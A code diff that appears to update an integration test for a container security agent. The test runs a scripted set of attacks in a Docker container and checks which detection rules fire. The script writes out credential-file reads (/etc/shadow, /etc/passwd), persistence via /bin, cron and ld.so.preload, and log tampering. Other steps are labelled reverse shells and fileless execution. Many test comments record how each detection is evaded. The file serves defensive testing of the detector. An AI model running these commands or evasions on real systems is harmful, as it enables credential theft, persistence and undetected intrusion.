@@ -19,9 +19,9 @@ import { copyFileSync } from 'node:fs';
 import { dirname, join, resolve } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import type { VigilEvent } from '../../src/events/index.js';
-import { ALERTS_ONLY_LOG } from '../helpers/agent-process.js';
-import { missingForContainerTests, missingWorkloadImages, WORKLOAD_IMAGES } from '../helpers/host.js';
-import { observe, tempDir, type Observed } from '../helpers/observe.js';
+import { ALERTS_ONLY_LOG, readEvents, startAgent } from '../helpers/agent-process.js';
+import { docker, missingForContainerTests, missingWorkloadImages, uniqueName, WORKLOAD_IMAGES } from '../helpers/host.js';
+import { tempDir } from '../helpers/observe.js';
 
 const fixtures = resolve(dirname(fileURLToPath(import.meta.url)), '..', '..', '..', 'test', 'policy', 'fixtures');
 
@@ -33,10 +33,13 @@ const skip = missingForContainerTests() ?? missingWorkloadImages() ?? missingCom
 
 const PY_STEPS = [
   'shell_baseline', 'shell_symlink', 'shell_busybox_argv0', 'shell_via_xargs', 'shell_parent_renamed',
-  'reverse_shell_dup2', 'reverse_shell_nc', 'memfd_exec', 'rename_dirfd_bin', 'passwd_cloexec',
+  'reverse_shell_dup2', 'reverse_shell_nc', 'memfd_exec', 'rename_dirfd_bin',
   'scan_one_pid', 'scan_many_pids', 'log_overwrite', 'log_dir_moved', 'python_path_persistence',
   'docker_socket_plain', 'docker_socket_symlink', 'docker_socket_other_mount',
 ];
+
+// The last step: an alert every agent writes, after all the others (see waitForEnd).
+const END_MARK = 'end-of-attack';
 
 // busybox sh steps: `s NAME COMMAND...` runs the command and prints ok:NAME when it succeeds.
 const SCRIPT = `
@@ -47,6 +50,7 @@ ln /etc/shadow /tmp/shadow-link && s shadow_hardlink cat /tmp/shadow-link
 s passwd_plain cat /etc/passwd
 s passwd_double_slash cat /etc//passwd
 s passwd_dot cat /etc/./passwd
+s passwd_python python3 -c "print(len(open('/etc/passwd').read()))"
 echo x > /tmp/evil1 && s bin_rename_absolute mv /tmp/evil1 /bin/evil1
 echo x > /tmp/evil2 && (cd /bin && mv /tmp/evil2 evil2) && echo ok:bin_rename_relative
 echo x > /tmp/evil3 && (cd /bin && ln /tmp/evil3 evil3) && echo ok:bin_link_relative
@@ -59,11 +63,14 @@ cp /fx/selfdelete /usr/selfdelete && s exe_self_deleting /usr/selfdelete
 dpkg --version >/dev/null 2>&1; echo ok:dpkg_applet
 s nsenter_applet nsenter --help
 : > /tmp/attack-preload && (cd /etc && mv /tmp/attack-preload ld.so.preload) && echo ok:preload_rename_relative
+cat /etc/shadow ${END_MARK} >/dev/null 2>&1
 exit 0
 `;
 
-let run: Observed | undefined;
+let run: { logs: string } | undefined;
 let alerts: VigilEvent[] = [];
+/** The same container seen by a second agent that also loads the proposed fixes. */
+let fixedAlerts: VigilEvent[] = [];
 
 before(async () => {
   if (skip) return;
@@ -76,17 +83,41 @@ before(async () => {
   cc(['-O2', '-o', join(fx, 'hello-dyn'), join(fixtures, 'attack-hello.c')]);
   cc(['-static', '-O2', '-o', join(fx, 'selfdelete'), join(fixtures, 'attack-selfdelete.c')]);
   copyFileSync(join(fixtures, 'attack-steps.py'), join(fx, 'attack-steps.py'));
-  run = await observe([[ALERTS_ONLY_LOG]], {
-    image: WORKLOAD_IMAGES.python,
-    script: SCRIPT,
-    namePrefix: 'vigil-attack',
-    dockerArgs: [
+  const fixes = join(fixtures, 'attack-proposed-fixes.yaml');
+  const agents = await Promise.all([startAgent([ALERTS_ONLY_LOG]), startAgent([ALERTS_ONLY_LOG, '--policy', fixes])]);
+  const name = uniqueName('vigil-attack');
+  let id = '';
+  try {
+    id = docker('run', '-d', '--pull', 'never', '--name', name,
       '-v', `${fx}:/fx:ro`, '--tmpfs', '/data:exec',
       '-v', '/var/run/docker.sock:/var/run/docker.sock:ro', '-v', '/var/run/docker.sock:/hidden/d.sock:ro',
-    ],
-  });
-  alerts = run.agents[0]!.events;
+      WORKLOAD_IMAGES.python, 'sh', '-c', SCRIPT);
+    docker('wait', name);
+    const out = spawnSync('docker', ['logs', name], { encoding: 'utf8' });
+    run = { logs: `${out.stdout}${out.stderr}` };
+    // A busy machine can leave an agent far behind the container: stop it only once
+    // it has written the last step's alert (every earlier record came before it).
+    for (const agent of agents) await waitForEnd(agent.logPath, id);
+  } finally {
+    spawnSync('docker', ['rm', '-f', name], { stdio: 'ignore' });
+  }
+  const views = [];
+  for (const agent of agents) {
+    const { code, events } = await agent.stop();
+    assert.equal(code, 0, agent.stderr());
+    views.push(events.filter((e) => e.container.id === id && !e.process.containerSetup));
+  }
+  [alerts, fixedAlerts] = views as [VigilEvent[], VigilEvent[]];
 });
+
+async function waitForEnd(logPath: string, id: string, timeoutMs = 300_000): Promise<void> {
+  const deadline = Date.now() + timeoutMs;
+  const ended = () => readEvents(logPath).some((e) => e.container.id === id && e.process.args.includes(END_MARK) && e.verdict.rules.includes('read sensitive file'));
+  while (!ended()) {
+    if (Date.now() > deadline) assert.fail(`the agent writing ${logPath} did not reach the end of the attack within ${timeoutMs} ms`);
+    await new Promise((r) => setTimeout(r, 250));
+  }
+}
 
 type Match = (e: VigilEvent) => boolean;
 
@@ -95,16 +126,25 @@ const cmdHas = (word: string): Match => (e) => e.process.args.some((a) => a.incl
 const pathIs = (path: string): Match => (e) => argsOf(e)['path'] === path;
 
 /** Asserts that the step ran and that the rule fired on an event of it. */
-function expectAlert(step: string, rule: string, match: Match): void {
+function expectAlert(step: string, rule: string, match: Match, from: VigilEvent[] = alerts): void {
   assert.ok(run, 'the container did not run');
   assert.ok(run.logs.split('\n').includes(`ok:${step}`), `step ${step} did not succeed; container output:\n${run.logs}`);
-  const hits = alerts.filter((e) => e.verdict.rules.includes(rule) && match(e));
-  const seen = alerts.map((e) => `${e.verdict.rules.join('+')} ${e.kind}/${e.syscall} ${e.process.comm} ${JSON.stringify(e.process.args).slice(0, 80)} ${JSON.stringify(e.args).slice(0, 160)}`);
+  const hits = from.filter((e) => e.verdict.rules.includes(rule) && match(e));
+  const seen = from.map((e) => `${e.verdict.rules.join('+')} ${e.kind}/${e.syscall} ${e.process.comm} ${JSON.stringify(e.process.args).slice(0, 80)} ${JSON.stringify(e.args).slice(0, 160)}`);
   assert.ok(hits.length > 0, `'${rule}' did not fire for step ${step}; the container's alerts:\n${seen.join('\n')}`);
 }
 
-function attack(title: string, step: string, rule: string, match: Match, todo?: string): void {
+/**
+ * One attack: `rule` of the default policy must fire on an event `match` picks. With
+ * `todo`, it does not today; `fix` then names the rule of attack-proposed-fixes.yaml
+ * that catches it (checked by a test of its own, on the agent that loads that file).
+ */
+function attack(title: string, step: string, rule: string, match: Match, todo?: string, fix?: string | [string, Match]): void {
   test(`${rule}: ${title}`, todo ? { skip, todo: `evasion: ${todo}` } : { skip }, () => expectAlert(step, rule, match));
+  if (fix) {
+    const [fixRule, fixMatch] = typeof fix === 'string' ? [fix, match] : fix;
+    test(`proposed fix '${fixRule}' catches: ${title}`, { skip }, () => expectAlert(step, fixRule, fixMatch, fixedAlerts));
+  }
 }
 
 const execOf = (m: Match): Match => (e) => e.kind === 'exec' && m(e);
@@ -113,45 +153,45 @@ const execOf = (m: Match): Match => (e) => e.kind === 'exec' && m(e);
 
 attack('a service starting sh', 'shell_baseline', 'execve shell', execOf(cmdHas('shell_baseline')));
 attack('sh through a symlink named otherwise (comm is the link name)', 'shell_symlink', 'execve shell', execOf(cmdHas('shell_symlink')),
-  "comm is 'notashell'; the exe is /bin/busybox and argv[0] is 'sh'");
+  "comm is 'notashell'; the exe is /bin/busybox and argv[0] is 'sh'", 'fixed: execve shell');
 attack('execve("/bin/busybox", ["sh", ...])', 'shell_busybox_argv0', 'execve shell', execOf(cmdHas('shell_busybox_argv0')),
-  "comm is 'busybox'; the applet is argv[0]");
+  "comm is 'busybox'; the applet is argv[0]", 'fixed: execve shell');
 attack('sh started through xargs, one of shell_parents_allowed', 'shell_via_xargs', 'execve shell', execOf(cmdHas('shell_via_xargs')),
-  'any program can put a wrapper of shell_parents_allowed (xargs, find, timeout...) between itself and a shell');
+  'any program can put a wrapper of shell_parents_allowed (xargs, find, timeout...) between itself and a shell', 'fixed: execve shell');
 attack('sh started by a service that renamed itself "sh" (prctl PR_SET_NAME)', 'shell_parent_renamed', 'execve shell', execOf(cmdHas('shell_parent_renamed')),
-  "process.parent is the parent's comm, which it sets itself; process.parentExe is /usr/bin/python3.11");
+  "process.parent is the parent's comm, which it sets itself; process.parentExe is /usr/bin/python3.11", 'fixed: execve shell');
 attack('a shell with a TCP socket as stdio (socket dup2ed, then exec)', 'reverse_shell_dup2', 'reverse shell', execOf(cmdHas('reverse_shell_dup2')));
 attack('busybox `nc HOST PORT -e sh`', 'reverse_shell_nc', 'reverse shell', execOf((e) => e.process.args.length === 1 && e.process.args[0] === 'sh'),
-  "nc runs sh as /proc/self/exe: the exec's comm is 'exe' (busybox renames itself with prctl afterwards)");
+  "nc runs sh as /proc/self/exe: the exec's comm is 'exe' (busybox renames itself with prctl afterwards)", 'fixed: reverse shell');
 attack('busybox `nc HOST PORT -e sh` is a shell too', 'reverse_shell_nc', 'execve shell', execOf((e) => e.process.args.length === 1 && e.process.args[0] === 'sh'),
-  "the exec's comm is 'exe' (filename /proc/self/exe)");
+  "the exec's comm is 'exe' (filename /proc/self/exe)", 'fixed: execve shell');
 attack('memfd_create + exec', 'memfd_exec', 'fileless execution', execOf(cmdHas('/proc/self/fd/')));
 attack('a program copied to /tmp', 'exe_tmp', 'binary not from image', execOf((e) => e.process.exe === '/tmp/hello'));
 attack('a program on a bind-mounted volume', 'exe_volume', 'binary not from image', execOf((e) => e.process.exe === '/fx/hello'),
-  'the rule ignores process.exeInImage (false here): only the writable layer and /tmp, /dev/shm, /var/tmp, /run count');
+  'the rule ignores process.exeInImage (false here): only the writable layer and /tmp, /dev/shm, /var/tmp, /run count', 'fixed: binary not from image');
 attack('a program on a tmpfs (--tmpfs /data:exec)', 'exe_tmpfs', 'binary not from image', execOf((e) => e.process.exe === '/data/hello'),
-  'the rule ignores process.exeInImage (false here)');
+  'the rule ignores process.exeInImage (false here)', 'fixed: binary not from image');
 attack('a program run by the dynamic loader (ld.so /tmp/x)', 'exe_ld_so', 'binary not from image', execOf(cmdHas('/tmp/hello-dyn')),
-  'the exe is /lib64/ld-linux-x86-64.so.2, an image file; the program it maps is only an argument');
+  'the exe is /lib64/ld-linux-x86-64.so.2, an image file; the program it maps is only an argument', 'fixed: binary not from image');
 attack('a program that deletes itself at once', 'exe_self_deleting', 'binary not from image', execOf((e) => e.process.exe === '/usr/selfdelete'),
-  'exeWritten is looked up in the upper directory after the fact: the file is gone by then (exeInImage is false)');
+  'exeWritten is looked up in the upper directory after the fact: the file is gone by then (exeInImage is false)', 'fixed: binary not from image');
 attack('busybox dpkg applet', 'dpkg_applet', 'package manager at run time', execOf((e) => e.process.args[0] === 'dpkg'),
-  "busybox runs applets as /proc/self/exe: the exec's comm is 'exe'");
+  "busybox runs applets as /proc/self/exe: the exec's comm is 'exe'", 'fixed: package manager at run time');
 attack('busybox nsenter applet', 'nsenter_applet', 'enter namespace', execOf((e) => e.process.args[0] === 'nsenter'),
-  "the exec's comm is 'exe'");
+  "the exec's comm is 'exe'", 'fixed: enter namespace');
 
 // --- files -----------------------------------------------------------------------------
 
 attack('cat /etc/shadow', 'shadow_plain', 'read sensitive file', (e) => cmdHas('/etc/shadow')(e) && pathIs('/etc/shadow')(e));
 attack('/etc/shadow read through a hard link', 'shadow_hardlink', 'read sensitive file', pathIs('/tmp/shadow-link'),
-  'the kernel path of the open is the link\'s name (/tmp/shadow-link), and the link itself is not judged');
+  'the kernel path of the open is the link\'s name (/tmp/shadow-link), and the link itself is not judged', ['credential file linked or moved', (e) => pathIs('/etc/shadow')(e) && argsOf(e)['new_path'] === '/tmp/shadow-link']);
 attack('cat /etc/passwd', 'passwd_plain', 'opening passwd', (e) => cmdHas('/etc/passwd')(e) && pathIs('/etc/passwd')(e));
 attack('cat /etc//passwd', 'passwd_double_slash', 'opening passwd', (e) => cmdHas('/etc//passwd')(e) && pathIs('/etc/passwd')(e),
-  "the argument '/etc//passwd' neither contains '/etc/passwd' nor is a suffix of it");
+  "the argument '/etc//passwd' neither contains '/etc/passwd' nor is a suffix of it", 'fixed: opening passwd');
 attack('cat /etc/./passwd', 'passwd_dot', 'opening passwd', (e) => cmdHas('/etc/./passwd')(e) && pathIs('/etc/passwd')(e),
-  "the argument '/etc/./passwd' neither contains '/etc/passwd' nor is a suffix of it");
-attack("python3 opening /etc/passwd (O_CLOEXEC, as Python opens every file)", 'passwd_cloexec', 'opening passwd', (e) => cmdHas('passwd_cloexec')(e) && pathIs('/etc/passwd')(e),
-  'O_CLOEXEC is taken as "the C library looking up a user", but every Python, Go, Java or Node open sets it');
+  "the argument '/etc/./passwd' neither contains '/etc/passwd' nor is a suffix of it", 'fixed: opening passwd');
+attack("python3 -c \"open('/etc/passwd')\" (O_CLOEXEC, as Python opens every file)", 'passwd_python', 'opening passwd', (e) => e.process.comm === 'python3' && cmdHas('/etc/passwd')(e) && pathIs('/etc/passwd')(e),
+  'O_CLOEXEC is taken as "the C library looking up a user", but every Python, Go, Java or Node open sets it', 'fixed: opening passwd');
 attack('mv /tmp/x /bin/x', 'bin_rename_absolute', 'write below binary directory', (e) => argsOf(e)['new_path'] === '/bin/evil1');
 attack('cd /bin && mv /tmp/x x (rename, new name relative, old absolute)', 'bin_rename_relative', 'write below binary directory', (e) => argsOf(e)['newname'] === 'evil2',
   'new_path is not computed when the first name is absolute and the second relative (describe.ts secondPath: r.base undefined)');
@@ -164,12 +204,12 @@ attack('cd /etc/cron.d && mv /tmp/job job', 'cron_rename_relative', 'persistence
 attack('cd /etc && mv /tmp/x ld.so.preload', 'preload_rename_relative', 'persistence through ld.so.preload', (e) => argsOf(e)['newname'] === 'ld.so.preload',
   'no new_path (see the rename into /bin)');
 attack('a log overwritten in place (O_RDWR, no O_TRUNC)', 'log_overwrite', 'log or history tampering', (e) => pathIs('/var/log/overwrite.log')(e) && cmdHas('log_overwrite')(e) && e.syscall.startsWith('open'),
-  'only unlink, truncate, rename, O_TRUNC and symlinks to /dev/null count; writing over the content does not');
+  'only unlink, truncate, rename, O_TRUNC and symlinks to /dev/null count; writing over the content does not', 'fixed: log or history tampering');
 attack('the whole /var/log directory renamed away', 'log_dir_moved', 'log or history tampering', (e) => argsOf(e)['path'] === '/var/log' && e.syscall.startsWith('rename'),
-  "the path is '/var/log', which does not start with '/var/log/'");
+  "the path is '/var/log', which does not start with '/var/log/'", 'fixed: log or history tampering');
 attack('a .pth file below /usr/local/lib (code run by every Python)', 'python_path_persistence', 'write below binary directory',
   (e) => String(argsOf(e)['path'] ?? '').endsWith('.pth'),
-  '/usr/local/lib/ is not in binary_dirs (nor /usr/local/lib64/, /usr/libexec/, /opt/)');
+  '/usr/local/lib/ is not in binary_dirs (nor /usr/local/lib64/, /usr/libexec/, /opt/)', 'write below binary directory');
 
 // --- network and runtime ---------------------------------------------------------------
 
